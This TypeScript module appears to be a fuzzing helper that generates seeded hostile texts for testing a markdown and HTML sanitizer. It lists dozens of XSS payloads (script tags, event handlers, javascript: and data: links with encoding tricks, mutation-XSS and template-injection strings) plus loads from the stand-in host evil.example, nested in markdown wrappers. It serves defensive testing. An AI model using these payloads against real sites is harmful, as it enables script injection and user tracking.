import { numbersFrom } from './random.ts'

const run = 'window.pwned=1'
const away = 'https://evil.example'

/** Texts that try to run code, to load something or to mislead. */
const payloads = [
  `<script>${run}</script>`,
  `<script src="${away}/a.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${away}/a.png">`,
  `<svg onload="${run}"><style>@import "${away}/a.css"</style></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>" src="${away}"></iframe>`,
  `<details open ontoggle="${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<base href="${away}/">`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<link rel=stylesheet href="${away}/a.css">`,
  `<form action="${away}"><button autofocus onfocus="${run}">`,
  `<object data="${away}/a.swf"></object><embed src="${away}/a">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `</script><script>${run}</script>`,
  `<!--<script>${run}</script>-->`,
  `![a](${away}/a.png)`,
  `![a](javascript:${run})`,
  `[a](javascript:${run})`,
  `[a](JAVASCRIPT&colon;${run})`,
  `[a](java\tscript:${run})`,
  `[a](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)`,
  `[https://cisa.gov](${away}/x)`,
  `[a](https://cisa.gov@evil.example/ "title")`,
  `[a](//evil.example)`,
  `[1]: ${away}/def\n[1]`,
  `<javascript:${run}>`,
  `<${away}/auto>`,
  `${away}/bare`,
  '[write](mailto:a@evil.example)',
  `[![a](${away}/in.png)](javascript:${run})`,
  `![a][b]\n\n[b]: ${away}/ref.png`,
  `[a][b]\n\n[b]: javascript:${run}`,
  `[a](&#106;avascript:${run})`,
  `[a](\u0001javascript:${run})`,
  `[a](vbscript:${run})`,
  `[a](blob:${away}/1)`,
  `[a](<javascript:${run}>)`,
  `<style>*{background:url(${away}/b.png)}</style>`,
  `<p style="background:url(${away}/c.png)">x</p>`,
  `<link rel="dns-prefetch" href="//evil.example"><link rel="prefetch" href="${away}/d">`,
  `<input type="image" src="${away}/e.png" formaction="javascript:${run}">`,
  `<video poster="${away}/f.png" src="${away}/f.mp4" autoplay onplay="${run}">`,
  `<a href="https://cisa.gov" ping="${away}/g">x</a>`,
  `<svg><use href="${away}/h.svg#a"/><image href="${away}/i.png"/></svg>`,
  '{{constructor.constructor("pwned=1")()}}',
  '\u202Egnp.exe',
  '\u0000\u0007\uFEFF',
  '\uD800',
  '&lt;script&gt;pwned=1&lt;/script&gt;',
  '&#60;img src=x onerror=pwned=1&#62;',
]

/** Markdown around another text, so that it is parsed in every place. */
const wrappers: ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `> ${inner}`,
  (inner) => `- ${inner}\n  1. ${inner}`,
  (inner) => `1. ${inner} *who; when*`,
  (inner) => `# ${inner}`,
  (inner) => `**${inner}** _${inner}_ ~~${inner}~~`,
  (inner) => `| a | ${inner} |\n| --- | --- |\n| ${inner} | x | y |`,
  (inner) => `| ${inner}\n| --- | ---\n`,
  (inner) => `\`${inner}\``,
  (inner) => `\`\`\`html\n${inner}`,
  (inner) => `    ${inner}`,
  (inner) => `[${inner}](${inner})`,
  (inner) => `![${inner}](${inner} "${inner}")`,
  (inner) => `<div>\n\n${inner}\n\n</div>`,
  (inner) => `${'> '.repeat(60)}${inner}`,
  (inner) => `${'- '.repeat(60)}${inner}`,
  (inner) => `${'*'.repeat(80)}${inner}`,
  (inner) => `${'['.repeat(80)}${inner}${']('.repeat(80)}`,
  (inner) => inner.replaceAll('<', '<<').replaceAll('"', "'"),
  (inner) => `- [x] ${inner}\r\n\r\n***\r\n${inner}`,
  (inner) => `${inner} [1][2] [999] \\[3] ${inner}`,
]

/** `count` texts, each of a few payloads in a few wrappers; the same for the same seed. */
export function hostileTexts(seed: number, count: number): string[] {
  const next = numbersFrom(seed)
  const pick = <T>(list: T[]): T => list[Math.floor(next() * list.length)] as T
  return Array.from({ length: count }, () => {
    let text = pick(payloads)
    for (let depth = Math.floor(next() * 4); depth > 0; depth--) {
      const wrapped = pick(wrappers)(text)
      if (wrapped.length < 3000) text = wrapped
      if (next() < 0.4) text += (next() < 0.5 ? '\n\n' : ' ') + pick(payloads)
    }
    // Sometimes truncated, as by a broken stream.
    return next() < 0.2 ? text.slice(0, Math.ceil(next() * text.length)) : text
  })
}
